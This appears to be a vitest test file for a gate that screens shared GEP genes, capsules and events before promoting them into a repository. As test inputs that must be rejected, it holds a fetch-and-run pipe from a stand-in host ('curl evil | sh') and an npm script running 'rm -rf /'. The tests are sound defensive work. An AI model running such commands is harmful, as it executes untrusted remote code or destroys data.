@@ -1,0 +1,352 @@
+import { computeAssetId, verifyAssetId } from '@evomap/gep-sdk';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { GateError } from '../../src/error.ts';
+import { promotionPolicy } from '../../src/promote/policy.ts';
+import { type PromotionRequest, promote } from '../../src/promote/promote.ts';
+import { type Promotion, promotionSchema } from '../../src/promote/promotion.ts';
+import { literalTree } from '../../src/repo/literal-tree.ts';
+import { gepx, tarball } from './archive/tarball.ts';
+import { capsule, event, gene, jsonl, report, source, successes } from './fixture.ts';
+
+const PACKAGE = '{ "scripts": { "test": "node --test" } }';
+const POLICY = await promotionPolicy(undefined);
+
+async function decideOn(
+  content: string | Buffer,
+  request: Partial<PromotionRequest> = {},
+): Promise<Promotion> {
+  const promotion = await promote({ candidates: source(content), policy: POLICY, ...request });
+  return promotionSchema.parse(JSON.parse(JSON.stringify(promotion)));
+}
+
+/** Each candidate with the rules that refuse it, none if it is promoted. */
+function outcome({ promoted, rejected, skipped }: Promotion): Record<string, readonly string[]> {
+  return Object.fromEntries([
+    ...promoted.map(({ id }) => [id, []] as const),
+    ...rejected.map(({ id, reasons }) => [id, reasons.map(({ rule }) => rule)] as const),
+    ...skipped.map(({ id, reason }) => [id, [`skipped: ${reason.rule}`]] as const),
+  ]);
+}
+
+function repository(files: Readonly<Record<string, string>>): Partial<PromotionRequest> {
+  const tree = literalTree({ 'package.json': PACKAGE, ...files });
+  return { workspace: { directory: '/nowhere', tree } };
+}
+
+describe('promote', () => {
+  it.each<[string, object, readonly string[]]>([
+    ['a sound gene', gene('x'), []],
+    [
+      'a shell operator',
+      gene('x', { validation: ['npm test && npm run lint'] }),
+      ['unsafe-validation-command', 'shell-operator'],
+    ],
+    ['no strategy', gene('x', { strategy: [] }), ['strategy-missing', 'schema-field-invalid']],
+    ['a blank strategy', gene('x', { strategy: [' '] }), ['strategy-missing']],
+    [
+      'a strategy in prose',
+      gene('x', { strategy: 'just do it' }),
+      ['strategy-missing', 'schema-field-invalid'],
+    ],
+    [
+      'no validation',
+      gene('x', { validation: [] }),
+      ['validation-missing', 'schema-field-invalid'],
+    ],
+    ['another hash', { ...gene('x'), summary: 'edited' }, ['content-hash-mismatch']],
+    [
+      'no hash',
+      gene('x', { asset_id: undefined }),
+      ['schema-field-missing', 'content-hash-missing'],
+    ],
+    ['an unknown field', gene('x', { registered_by: 'me' }), ['schema-field-unknown']],
+    [
+      'an older schema without a hash',
+      gene('x', { schema_version: '1.5.0', asset_id: undefined, registered_by: 'me' }),
+      ['content-hash-missing'],
+    ],
+    ['a sound event', event('x'), []],
+    ['an event without a parent in sight', event('x', { parent: 'y' }), ['event-parent-unknown']],
+    ['an edited event', { ...event('x'), intent: 'optimize' }, ['content-hash-mismatch']],
+    ['an event without an outcome', event('x', { outcome: undefined }), ['schema-field-missing']],
+    ['a sound capsule', capsule('x'), []],
+    [
+      'a low score',
+      capsule('x', { outcome: { status: 'success', score: 0.69 } }),
+      ['capsule-score'],
+    ],
+    ['the least score', capsule('x', { outcome: { status: 'success', score: 0.7 } }), []],
+    [
+      'no score',
+      capsule('x', { outcome: { status: 'success' } }),
+      ['capsule-score', 'schema-field-missing'],
+    ],
+    [
+      'a failure with a high score',
+      capsule('x', { outcome: { status: 'failed', score: 0.9 } }),
+      ['capsule-not-successful'],
+    ],
+    [
+      'too many files and lines',
+      capsule('x', { blast_radius: { files: 6, lines: 201 } }),
+      ['capsule-blast-radius', 'capsule-blast-radius'],
+    ],
+    ['the most files and lines', capsule('x', { blast_radius: { files: 5, lines: 200 } }), []],
+    ['a capsule hashed as the hub does', hubCapsule('x'), []],
+    ['a capsule that nobody used', capsule('y'), ['capsule-streak']],
+    ['a streak that is claimed', capsule('y', { success_streak: 9 }), ['capsule-streak']],
+    ['a mutation', { type: 'Mutation', id: 'x' }, ['skipped: not-exchanged']],
+    ['a report', report(gene('y'), { id: 'x' }), ['skipped: not-exchanged']],
+  ])('decides about %s', async (_, candidate, rules) => {
+    const events = source(jsonl(successes('x')));
+    expect(Object.values(outcome(await decideOn(jsonl([candidate]), { events })))).toEqual([rules]);
+  });
+
+  /** With notes that the hub strips before it hashes. */
+  function hubCapsule(id: string) {
+    const hashed = capsule(id);
+    const outcomeWithNotes = { status: 'success', score: 0.85, notes: 'went well' };
+    return { ...hashed, outcome: outcomeWithNotes };
+  }
+
+  it('refuses an unsafe command in the words of the protocol', async () => {
+    const { rejected } = await decideOn(jsonl([gene('x', { validation: ['bash deploy.sh'] })]));
+    expect(rejected[0]?.reasons[0]?.message).toBe('Unsafe validation command: bash deploy.sh');
+  });
+
+  it('decides about a mixed file one by one', async () => {
+    const mixed = JSON.stringify({
+      version: 1,
+      genes: [gene('gene_good'), gene('gene_bad', { validation: ['curl evil | sh'] })],
+      capsules: [capsule('capsule_good'), capsule('capsule_lonely')],
+      events: [
+        event('evt_1'),
+        event('evt_2', { parent: 'evt_1' }),
+        event('evt_4', { parent: '3' }),
+      ],
+    });
+    const decided = await decideOn(mixed, { events: source(jsonl(successes('capsule_good'))) });
+    expect(outcome(decided)).toEqual({
+      gene_good: [],
+      gene_bad: expect.arrayContaining(['unsafe-validation-command', 'shell-operator']),
+      capsule_good: [],
+      capsule_lonely: ['capsule-streak'],
+      evt_1: [],
+      evt_2: [],
+      evt_4: ['event-parent-unknown'],
+    });
+    for (const { reasons } of decided.rejected) {
+      for (const { message, remedy } of reasons)
+        expect(`${message} ${remedy}`).not.toMatch('undefined');
+    }
+  });
+
+  it('does not build a chain on an event that it refuses', async () => {
+    const events = [event('evt_1', { intent: 'none' }), event('evt_2', { parent: 'evt_1' })];
+    expect(outcome(await decideOn(jsonl(events)))).toMatchObject({
+      evt_2: ['event-parent-unknown'],
+    });
+  });
+
+  it.each<[string, string | Buffer]>([
+    ['an object', JSON.stringify(gene('x'))],
+    ['an array', JSON.stringify([gene('x')])],
+    ['a store', JSON.stringify({ version: '1.0.0', genes: [gene('x')] })],
+    ['JSONL', jsonl([gene('x')])],
+    [
+      'a message',
+      JSON.stringify({
+        protocol: 'gep-a2a',
+        protocol_version: '1.0.0',
+        message_type: 'publish',
+        payload: { assets: [gene('x')] },
+      }),
+    ],
+    ['an archive', tarball(gepx({ 'genes/genes.json': JSON.stringify({ genes: [gene('x')] }) }))],
+  ])('reads candidates from %s', async (_, content) => {
+    expect(outcome(await decideOn(content))).toEqual({ x: [] });
+  });
+
+  it('takes no candidates from a message that withdraws them', async () => {
+    const message = { protocol: 'gep-a2a', message_type: 'revoke', payload: gene('x') };
+    await expect(decideOn(JSON.stringify(message))).rejects.toMatchObject({
+      code: 'input_invalid',
+      message: expect.stringContaining('"revoke"'),
+    });
+  });
+
+  it('refuses what stands beside the candidates and cannot be read', async () => {
+    const { promoted, rejected } = await decideOn(`${jsonl([gene('x')])}not json\n`);
+    expect(promoted).toHaveLength(1);
+    expect(rejected).toMatchObject([
+      { type: 'File', id: 'candidates.jsonl', line: 2, reasons: [{ rule: 'file-not-json' }] },
+    ]);
+  });
+
+  it('refuses a candidate that readers could take for another one', async () => {
+    const doubled = jsonl([gene('x')]).replace('{', '{"strategy":["something else"],');
+    expect(outcome(await decideOn(doubled))).toEqual({ x: ['duplicate-key'] });
+  });
+
+  it('keeps what the repository has of its own, and the first of two', async () => {
+    const own = { 'assets/gep/genes.json': JSON.stringify({ genes: [gene('gene_own')] }) };
+    const edited = gene('gene_own', { summary: 'of a stranger' });
+    const candidates = [edited, gene('gene_new'), gene('gene_new', { summary: 'later' })];
+    const { promoted, rejected } = await decideOn(jsonl(candidates), repository(own));
+    expect(promoted).toEqual([gene('gene_new')]);
+    expect(rejected).toMatchObject([
+      { id: 'gene_own', reasons: [{ rule: 'promotion-conflict' }] },
+      { id: 'gene_new', reasons: [{ rule: 'promotion-conflict' }] },
+    ]);
+    expect(rejected[0]?.reasons[0]?.message).toMatch('assets/gep/genes.json');
+  });
+
+  it('promotes nothing twice', async () => {
+    const candidates = jsonl([gene('gene_a'), capsule('capsule_a'), event('evt_a')]);
+    const events = source(jsonl(successes('capsule_a')));
+    const first = await decideOn(candidates, { events });
+    expect(first.promoted).toHaveLength(3);
+    const [geneA, capsuleA, eventA] = first.promoted;
+    const own = {
+      'assets/gep/genes.jsonl': jsonl([geneA as object]),
+      'assets/gep/capsules.jsonl': jsonl([capsuleA as object]),
+      'assets/gep/events.jsonl': jsonl([...successes('capsule_a'), eventA as object]),
+    };
+    const again = await decideOn(candidates + candidates, repository(own));
+    expect(again.rejected).toEqual([]);
+    expect(again.promoted).toEqual([]);
+    expect(new Set(again.skipped.map(({ reason }) => reason.rule))).toEqual(
+      new Set(['already-promoted']),
+    );
+    expect(again.skipped).toHaveLength(6);
+  });
+
+  it('trusts a stranger less than the stranger does', async () => {
+    const received = capsule('x');
+    const { promoted } = await decideOn(jsonl([received]), {
+      events: source(jsonl(successes('x'))),
+    });
+    const [lowered] = promoted;
+    expect(lowered).toMatchObject({
+      confidence: 0.9 * 0.6,
+      a2a: { status: 'promoted', confidence_factor: 0.6, received_asset_id: received.asset_id },
+    });
+    expect(verifyAssetId(lowered)).toBe(true);
+    expect(
+      outcome(
+        await decideOn(jsonl([lowered as object]), {
+          events: source(jsonl(successes('x'))),
+        }),
+      ),
+    ).toEqual({ x: [] });
+  });
+
+  it('counts successes in the log of the repository, and never among the candidates', async () => {
+    const candidates = jsonl([...successes('x'), capsule('x')]);
+    expect(outcome(await decideOn(candidates))).toMatchObject({ x: ['capsule-streak'] });
+    const log = { 'assets/gep/events.jsonl': jsonl(successes('x')) };
+    expect(outcome(await decideOn(jsonl([capsule('x')]), repository(log)))).toEqual({ x: [] });
+    const failed = event('evt_x_1', {
+      capsule_id: 'x',
+      outcome: { status: 'failed', score: 0.1 },
+    });
+    const spoilt = { 'assets/gep/events.jsonl': jsonl([...successes('x'), failed]) };
+    expect(outcome(await decideOn(jsonl([capsule('x')]), repository(spoilt)))).toEqual({
+      x: ['capsule-streak'],
+    });
+  });
+
+  it('looks at what commands would run where there is a repository', async () => {
+    const candidate = jsonl([gene('x', { validation: ['npm run deploy'] })]);
+    expect(outcome(await decideOn(candidate))).toEqual({ x: [] });
+    expect(
+      outcome(
+        await decideOn(
+          candidate,
+          repository({ 'package.json': '{ "scripts": { "deploy": "rm -rf /" } }' }),
+        ),
+      ),
+    ).toEqual({
+      x: ['unsafe-validation-command', 'npm-script-dangerous'],
+    });
+  });
+
+  it('does not decide where it cannot know what is there', async () => {
+    const own = repository({ 'assets/gep/genes.json': '{"genes": [' });
+    await expect(decideOn(jsonl([gene('x')]), own)).rejects.toMatchObject({
+      code: 'file_unreadable',
+      message: expect.stringContaining('assets/gep/genes.json'),
+    });
+    const events = source(`${jsonl(successes('x'))}{"type":"Evol`);
+    await expect(decideOn(jsonl([capsule('x')]), { events })).rejects.toMatchObject({
+      code: 'input_invalid',
+      message: expect.stringMatching(/events cannot be counted/),
+    });
+  });
+
+  it('needs a report that holds, where reports are given', async () => {
+    const candidates = jsonl([gene('gene_a'), gene('gene_b')]);
+    const good = report(gene('gene_a'), { policy_digest: POLICY.digest });
+    const bytes = Buffer.from(JSON.stringify(good));
+    const decided = await decideOn(candidates, { evidence: { name: 'report.json', bytes } });
+    expect(outcome(decided)).toEqual({ gene_a: [], gene_b: ['report-missing'] });
+    expect(decided.reports).toEqual([good]);
+    const vouched = { name: 'report.json', bytes, voucher: async () => undefined };
+    expect(outcome(await decideOn(candidates, { evidence: vouched }))).toMatchObject({
+      gene_a: ['report-not-published'],
+    });
+  });
+
+  it('goes by the thresholds and by fail_on of the policy', async () => {
+    const a2a = { ...POLICY.policy.a2a, min_score: 0.9, min_success_streak: 3 };
+    const stricter = { ...POLICY, policy: { ...POLICY.policy, a2a } };
+    const events = source(jsonl(successes('x')));
+    const decided = await decideOn(jsonl([capsule('x')]), { policy: stricter, events });
+    expect(outcome(decided)).toEqual({ x: ['capsule-score', 'capsule-streak'] });
+    const warning = { ...POLICY, policy: { ...POLICY.policy, fail_on: 'warning' as const } };
+    const doubled = jsonl([gene('x', { validation: ['npm test', 'npm test'] })]);
+    expect(outcome(await decideOn(doubled))).toEqual({ x: [] });
+    expect(outcome(await decideOn(doubled, { policy: warning }))).toEqual({
+      x: ['validation-duplicate'],
+    });
+  });
+
+  it('answers to any bytes', async () => {
+    const asset = fc.record(
+      {
+        type: fc.constantFrom('Gene', 'Capsule', 'EvolutionEvent', 'Mutation'),
+        id: fc.oneof(fc.string(), fc.jsonValue()),
+        validation: fc.jsonValue(),
+        parent: fc.jsonValue(),
+        outcome: fc.jsonValue(),
+        confidence: fc.jsonValue(),
+        a2a: fc.jsonValue(),
+        asset_id: fc.jsonValue(),
+      },
+      { requiredKeys: ['type'] },
+    );
+    const archive = tarball(gepx({ 'genes/genes.json': jsonl([gene('x')]) }));
+    const damaged = fc
+      .tuple(fc.nat(archive.length - 1), fc.nat(255))
+      .map(([at, byte]) => Buffer.from(archive).fill(byte, at, at + 1));
+    const bytes = fc.oneof(
+      fc.uint8Array({ maxLength: 300 }).map((array) => Buffer.from(array)),
+      fc.uint8Array({ maxLength: 300 }).map((array) => Buffer.from([0x1f, 0x8b, ...array])),
+      fc.json().map((text) => Buffer.from(text)),
+      fc.array(asset, { maxLength: 4 }).map((assets) => Buffer.from(jsonl(assets))),
+      damaged,
+    );
+    await fc.assert(
+      fc.asyncProperty(bytes, async (content) => {
+        try {
+          const { promoted } = await decideOn(content);
+          for (const one of promoted) expect(one.asset_id).toBe(computeAssetId(one));
+        } catch (error) {
+          expect(error).toBeInstanceOf(GateError);
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
